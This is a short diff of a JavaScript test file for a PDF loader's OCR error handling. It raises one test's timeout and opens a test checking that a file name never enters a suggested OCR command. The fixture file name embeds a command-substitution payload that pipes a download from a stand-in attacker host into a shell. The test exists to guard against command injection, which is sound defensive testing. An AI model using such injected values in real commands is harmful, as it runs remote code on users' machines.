@@ -145,7 +145,7 @@ describe('createPdfLoader', () => {
     expect(error.code).toBe('pdf_no_text');
     expect(error.message).toMatch(/OCR found no readable text/);
     expect(error.details).toMatchObject({ ocr: true });
-  });
+  }, 180_000);
 
   it('never puts the file name into the OCR command it suggests', async () => {
     const name = 'scan$(curl evil.example | sh)`x`.pdf';
